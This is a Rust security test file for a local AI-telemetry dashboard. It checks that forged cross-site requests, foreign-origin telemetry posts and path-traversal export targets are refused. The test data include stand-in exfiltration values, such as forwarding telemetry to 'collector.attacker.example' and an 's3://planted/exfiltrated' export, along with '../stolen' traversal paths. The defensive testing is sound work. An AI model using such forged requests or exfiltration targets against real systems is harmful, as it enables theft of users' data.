//! Issue 10: requests a foreign web page can make the browser send must change nothing.
//!
//! Every state-changing operation of the table (`api::rest::OPERATIONS`, all but GET) is sent with
//! each header combination a page can produce without a CORS preflight — a foreign, `null` or
//! same-site `Origin`, `Sec-Fetch-Site: cross-site`, `text/plain`, form and multipart bodies, a typed
//! body without `Content-Type` — and must be refused with 403 or 415 while the rows, dashboards,
//! settings, price state and the export folder stay exactly as they were. The same requests from the
//! app's own page (its origin and page cookie) and from a script (no `Origin`) still work.

use crate::support::{TestServer, captures};
use ai_observer_engine::api::rest::OPERATIONS;
use reqwest::Method;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Everything a forged request could change, read back through the API and the disk.
#[derive(Debug, PartialEq)]
struct Snapshot {
    rows: (i64, i64, i64, i64),
    dashboards: Value,
    default_dashboard: Value,
    settings: Value,
    export_folder: Vec<PathBuf>,
    import_states: i64,
    limits: Value,
    tokens: Value,
    forwarding: Value,
}

struct Scene {
    server: TestServer,
    dashboard_id: String,
    widget_id: String,
    empty_sessions: tempfile::TempDir,
}

async fn scene() -> Scene {
    let server = TestServer::start().await;
    for capture in captures(&["claude-json-plain", "codex-json-plain"]) {
        assert_eq!(capture.replay(&server.client, &server.otlp("")).await.status(), 200);
    }
    let (status, dashboard) = server.send_json(Method::POST, "/api/dashboards", &json!({"name": "Mine", "isDefault": true})).await;
    assert_eq!(status, 201, "{dashboard}");
    let dashboard_id = dashboard["id"].as_str().expect("dashboard id").to_owned();
    let (status, widget) = server
        .send_json(
            Method::POST,
            &format!("/api/dashboards/{dashboard_id}/widgets"),
            &json!({"widgetType": "stat", "title": "Spend", "gridColumn": 1, "gridRow": 1, "colSpan": 1, "rowSpan": 1}),
        )
        .await;
    assert_eq!(status, 201, "{widget}");
    let widget_id = widget["id"].as_str().expect("widget id").to_owned();
    server.engine.tokens().add("planted-token").await.expect("a token to revoke");
    Scene { server, dashboard_id, widget_id, empty_sessions: tempfile::tempdir().expect("tempdir") }
}

fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(folder) = pending.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                pending.push(path.clone());
            }
            found.push(path);
        }
    }
    found.sort();
    found
}

impl Scene {
    async fn snapshot(&self) -> Snapshot {
        let server = &self.server;
        let import_states: i64 = server
            .engine
            .store()
            .read(|connection| Ok(connection.query_row("SELECT count(*) FROM import_state", [], |row| row.get(0))?))
            .await
            .expect("import states");
        let mut settings = server.get_json("/api/settings").await;
        settings.as_object_mut().expect("settings object").remove("receivingPaused");
        Snapshot {
            rows: server.row_counts().await,
            dashboards: server.get_json("/api/dashboards").await,
            default_dashboard: server.get_json(&format!("/api/dashboards/{}", self.dashboard_id)).await,
            settings,
            export_folder: files_under(&server.engine.export_root().await),
            import_states,
            limits: server.get_json("/api/limits").await,
            tokens: server.get_json("/api/tokens").await,
            forwarding: server.get_json("/api/forwarding").await,
        }
    }

    /// The path with its parameters filled, and a body that would change something if accepted.
    fn request_for(&self, name: &str, path: &str) -> (String, Value) {
        let path = path
            .replace("{id}", &self.dashboard_id)
            .replace("{widgetId}", &self.widget_id)
            .replace("{jobId}", "job-1")
            .replace("{name}", "planted-token");
        let sessions = self.empty_sessions.path().display().to_string();
        let paths = json!({"claudeCode": [sessions], "codex": [sessions], "gemini": [sessions]});
        let body = match name {
            "dashboard_create" => json!({"name": "Planted", "isDefault": true}),
            "dashboard_update" => json!({"name": "Renamed"}),
            "widget_create" => json!({"widgetType": "stat", "title": "Planted", "gridColumn": 2, "gridRow": 2, "colSpan": 1, "rowSpan": 1}),
            "widget_positions" => json!({"positions": [{"id": self.widget_id, "gridColumn": 4, "gridRow": 4}]}),
            "widget_update" => json!({"title": "Renamed"}),
            "settings_update" => json!({"dailyBudgetUsd": 0.01, "timeZone": "Asia/Tokyo"}),
            "prices_recompute" => json!({}),
            "import_scan" | "import_start" => json!({"paths": paths, "force": true}),
            "export_data" => json!({"output": "planted"}),
            "export_object_storage" => json!({"url": "s3://planted/exfiltrated"}),
            "delete_preview" | "delete_data" => json!({"scope": "all", "from": "2000-01-01", "to": "2100-01-01"}),
            "metric_batch_series" => json!({"queries": []}),
            // changes nothing, but a foreign page must not get to run it either
            "sql_run" => json!({"sql": "SELECT * FROM otel_logs"}),
            "limits_statusline" => json!({"rate_limits": {"five_hour": {"used_percentage": 99, "resets_at": 4_000_000_000_i64}}}),
            "tokens_add" => json!({"name": "foreign-machine"}),
            // a foreign page must never make the app send the user's telemetry elsewhere
            "forwarding_update" => json!({"destinations": [{"url": "https://collector.attacker.example:4318"}], "fullContent": true}),
            "dashboard_delete" | "widget_delete" | "dashboard_set_default" | "import_cancel" | "tokens_revoke" => json!({}),
            other => panic!("the cross-origin matrix has no request for the state-changing operation {other}: add one"),
        };
        (path, body)
    }

    fn state_changing_operations(&self) -> Vec<(&'static str, Method, String, Value)> {
        OPERATIONS
            .iter()
            .filter(|(_, method, ..)| *method != "GET" && *method != "DESKTOP")
            .map(|(name, method, path, ..)| {
                let (path, body) = self.request_for(name, path);
                (*name, Method::from_bytes(method.as_bytes()).expect("method"), path, body)
            })
            .collect()
    }

    async fn send(&self, method: &Method, path: &str, headers: &[(&str, String)], body: Option<String>) -> (u16, Value) {
        let mut request = self.server.client.request(method.clone(), self.server.api(path));
        for (name, value) in headers {
            request = request.header(*name, value);
        }
        if let Some(body) = body {
            request = request.body(body);
        }
        let response = request.send().await.expect("request");
        let status = response.status().as_u16();
        (status, serde_json::from_str(&response.text().await.expect("body")).unwrap_or(Value::Null))
    }
}

/// A hostile header combination: what a page on another origin can make the browser send.
struct Forgery {
    what: &'static str,
    headers: Vec<(&'static str, String)>,
    body_as: BodyAs,
    expected: &'static [u16],
}

enum BodyAs {
    Json,
    Form,
    Multipart,
}

fn forgeries(api_port: u16) -> Vec<Forgery> {
    let text = |origin: Option<&str>| {
        let mut headers = vec![("content-type", "text/plain;charset=UTF-8".to_owned())];
        if let Some(origin) = origin {
            headers.push(("origin", origin.to_owned()));
        }
        headers
    };
    vec![
        Forgery {
            what: "no-cors fetch, text/plain, foreign origin",
            headers: text(Some("http://evil.example")),
            body_as: BodyAs::Json,
            expected: &[403],
        },
        Forgery {
            what: "opaque origin (sandboxed frame, file: page)",
            headers: text(Some("null")),
            body_as: BodyAs::Json,
            expected: &[403],
        },
        Forgery {
            what: "another loopback port (same site, other origin)",
            headers: [text(Some("http://127.0.0.1:1")), vec![("sec-fetch-site", "same-site".to_owned())]].concat(),
            body_as: BodyAs::Json,
            expected: &[403],
        },
        Forgery {
            what: "Sec-Fetch-Site cross-site without Origin",
            headers: [text(None), vec![("sec-fetch-site", "cross-site".to_owned())]].concat(),
            body_as: BodyAs::Json,
            expected: &[403],
        },
        Forgery {
            what: "hidden form post from a foreign page",
            headers: vec![
                ("content-type", "application/x-www-form-urlencoded".to_owned()),
                ("origin", "http://evil.example".to_owned()),
                ("sec-fetch-site", "cross-site".to_owned()),
            ],
            body_as: BodyAs::Form,
            expected: &[403],
        },
        Forgery {
            what: "JSON with a foreign origin (as if a preflight had passed)",
            headers: vec![("content-type", "application/json".to_owned()), ("origin", "http://evil.example".to_owned())],
            body_as: BodyAs::Json,
            expected: &[403],
        },
        Forgery { what: "text/plain without Origin", headers: text(None), body_as: BodyAs::Json, expected: &[415] },
        Forgery {
            what: "form body without Origin",
            headers: vec![("content-type", "application/x-www-form-urlencoded".to_owned())],
            body_as: BodyAs::Form,
            expected: &[415],
        },
        Forgery {
            what: "multipart body",
            headers: vec![("content-type", "multipart/form-data; boundary=XyZ".to_owned())],
            body_as: BodyAs::Multipart,
            expected: &[415],
        },
        Forgery { what: "a body without Content-Type (a Blob)", headers: vec![], body_as: BodyAs::Json, expected: &[415] },
        Forgery {
            what: "the app's own origin without the page cookie",
            headers: vec![("content-type", "application/json".to_owned()), ("origin", format!("http://127.0.0.1:{api_port}"))],
            body_as: BodyAs::Json,
            expected: &[403],
        },
    ]
}

fn encode(body: &Value, body_as: &BodyAs) -> String {
    match body_as {
        BodyAs::Json => body.to_string(),
        BodyAs::Form => format!("{}=", body),
        BodyAs::Multipart => format!("--XyZ\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n\r\n--XyZ--\r\n", body),
    }
}

#[tokio::test]
async fn every_state_changing_route_refuses_what_a_foreign_page_can_send_and_changes_nothing() {
    let scene = scene().await;
    let before = scene.snapshot().await;
    let operations = scene.state_changing_operations();
    assert!(operations.len() >= 17, "the table lists {} state-changing operations", operations.len());
    let mut refusals: BTreeMap<u16, usize> = BTreeMap::new();
    for forgery in forgeries(scene.server.ports.api) {
        for (name, method, path, body) in &operations {
            let encoded = encode(body, &forgery.body_as);
            let (status, answer) = scene.send(method, path, &forgery.headers, Some(encoded)).await;
            assert!(forgery.expected.contains(&status), "{name} ({method} {path}) with {}: {status} {answer}", forgery.what);
            assert!(answer["message"].as_str().is_some_and(|message| !message.is_empty()), "{name}: a refusal says why: {answer}");
            *refusals.entry(status).or_default() += 1;
        }
    }
    assert_eq!(scene.snapshot().await, before, "a refused request changed something");
    assert_eq!(refusals.values().sum::<usize>(), 11 * operations.len());
    assert!(
        refusals.get(&403).copied().unwrap_or(0) >= 7 * operations.len()
            && refusals.get(&415).copied().unwrap_or(0) >= 4 * operations.len()
    );
    scene.server.stop().await;
}

#[tokio::test]
async fn the_apps_own_page_and_scripts_still_change_data() {
    let scene = scene().await;
    let server = &scene.server;
    // The page cookie comes with the UI document (any answer of the API port).
    let page = server.client.get(server.api("/")).send().await.expect("page");
    let cookie = page
        .headers()
        .get("set-cookie")
        .and_then(|value| value.to_str().ok())
        .and_then(|value| value.split(';').next())
        .expect("the API port sets its page cookie")
        .to_owned();
    assert!(page.headers()["set-cookie"].to_str().unwrap().contains("HttpOnly; SameSite=Strict"));
    let own_page = vec![
        ("content-type", "application/json".to_owned()),
        ("origin", format!("http://127.0.0.1:{}", server.ports.api)),
        ("sec-fetch-site", "same-origin".to_owned()),
        ("cookie", cookie),
    ];
    let (status, created) =
        scene.send(&Method::POST, "/api/dashboards", &own_page, Some(json!({"name": "From the page"}).to_string())).await;
    assert_eq!(status, 201, "{created}");
    let (status, settings) = scene.send(&Method::PUT, "/api/settings", &own_page, Some(json!({"dailyBudgetUsd": 3}).to_string())).await;
    assert_eq!((status, settings["dailyBudgetUsd"].as_f64()), (200, Some(3.0)), "{settings}");
    let (status, exported) =
        scene.send(&Method::POST, "/api/export", &own_page, Some(json!({"output": "from-the-page", "dryRun": true}).to_string())).await;
    assert_eq!(status, 200, "{exported}");
    let (status, _) =
        scene.send(&Method::DELETE, &format!("/api/dashboards/{}", created["id"].as_str().unwrap()), &own_page[1..], None).await;
    assert_eq!(status, 204, "a DELETE from the page carries no body and no type");

    // A script: no Origin, no cookie, JSON.
    let (status, dashboards) = server.send_json(Method::POST, "/api/dashboards", &json!({"name": "From a script"})).await;
    assert_eq!(status, 201, "{dashboards}");
    let (status, deleted) =
        server.send_json(Method::POST, "/api/delete", &json!({"scope": "all", "from": "2000-01-01", "to": "2100-01-01"})).await;
    assert_eq!(status, 200, "{deleted}");
    assert!(deleted["logs"].as_i64().unwrap() > 0, "{deleted}");
    assert_eq!(server.row_counts().await, (0, 0, 0, 0));
    scene.server.stop().await;
}

#[tokio::test]
async fn the_otlp_receiver_refuses_telemetry_from_a_foreign_page() {
    let server = TestServer::start().await;
    let capture = captures(&["claude-json-plain"]).into_iter().find(|capture| capture.name.contains("logs")).expect("a logs capture");
    for (origin, content_type) in
        [("http://evil.example", "text/plain"), ("null", "application/json"), ("http://127.0.0.1:1", "text/plain")]
    {
        let refused = server
            .client
            .post(server.otlp("/v1/logs"))
            .header("origin", origin)
            .header("content-type", content_type)
            .body(capture.body.clone())
            .send()
            .await
            .expect("post");
        assert_eq!(refused.status().as_u16(), 403, "{origin}");
    }
    assert_eq!(server.row_counts().await, (0, 0, 0, 0), "nothing a page sent was stored");
    let accepted = capture.replay(&server.client, &server.otlp("")).await;
    assert_eq!(accepted.status().as_u16(), 200, "exporters send no Origin");
    assert!(server.row_counts().await.1 > 0);
    server.stop().await;
}

#[tokio::test]
async fn api_exports_stay_inside_the_export_folder() {
    let scene = scene().await;
    let server = &scene.server;
    let root = server.engine.export_root().await;
    let outside = tempfile::tempdir().expect("outside");
    let escape_link = root.join("escape");
    std::fs::create_dir_all(&root).expect("root");
    #[cfg(unix)]
    std::os::unix::fs::symlink(outside.path(), &escape_link).expect("symlink");
    for output in
        [outside.path().join("stolen").display().to_string(), "../stolen".to_owned(), "escape/stolen".to_owned(), "/tmp".to_owned()]
    {
        let (status, answer) = server.send_json(Method::POST, "/api/export", &json!({"output": output})).await;
        assert_eq!(status, 403, "{output}: {answer}");
        assert!(answer["message"].as_str().unwrap().contains("export folder"), "{answer}");
    }
    assert!(files_under(outside.path()).is_empty(), "nothing was written outside the export folder");
    let (status, written) = server.send_json(Method::POST, "/api/export", &json!({"output": "weekly"})).await;
    assert_eq!(status, 200, "{written}");
    let folder = PathBuf::from(written["output"].as_str().unwrap());
    assert_eq!(folder, root.canonicalize().unwrap().join("weekly"));
    assert!(folder.join("logs.parquet").is_file());
    let (status, named) = server.send_json(Method::POST, "/api/export", &json!({"dryRun": true})).await;
    assert_eq!(status, 200, "an export without a folder name gets one: {named}");
    assert!(named["output"].as_str().unwrap().contains("export-"), "{named}");
    scene.server.stop().await;
}
